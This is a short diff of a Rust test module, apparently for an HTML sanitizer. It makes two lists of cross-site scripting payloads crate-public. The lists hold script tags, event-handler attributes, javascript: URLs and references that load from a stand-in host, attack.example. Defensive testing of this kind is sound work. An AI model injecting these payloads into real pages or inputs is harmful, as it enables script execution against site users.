@@ -5,7 +5,7 @@ use crate::hosts::{addresses, candidates, parts};
 
 /// What would run, ask or build, once it is markup.
 #[rustfmt::skip]
-const MARKUP: &[&str] = &[
+pub(crate) const MARKUP: &[&str] = &[
     "<script>window.__ran=1</script>", "<img src=x onerror=alert(1)>", "<svg/onload=window.__ran=1>",
     "<script src=//attack.example/x></script>", "<iframe src=javascript:alert(1)>", "<base href=//attack.example/>",
     "<iframe srcdoc=\"<script>parent.__ran=1</script>\">", "<meta http-equiv=refresh content='0;url=//attack.example/'>",
@@ -20,7 +20,7 @@ const MARKUP: &[&str] = &[
 
 /// What would run or ask, once it is attributes.
 #[rustfmt::skip]
-const ATTRIBUTES: &[&str] = &[
+pub(crate) const ATTRIBUTES: &[&str] = &[
     "onmouseover=alert(1)", "onerror=alert(1) src=x", "autofocus onfocus=window.__ran=1 tabindex=0", "style=background:url(//attack.example/)",
     "style=animation-name:x onanimationstart=alert(1)", "href=javascript:alert(1)", "srcset=//attack.example/", "formaction=javascript:alert(1)",
     "srcdoc='<script>parent.__ran=1</script>'", "onload=window.__ran=1", "contenteditable onblur=alert(1)", "is=x-y", "popover id=x", "=x", "/x/",
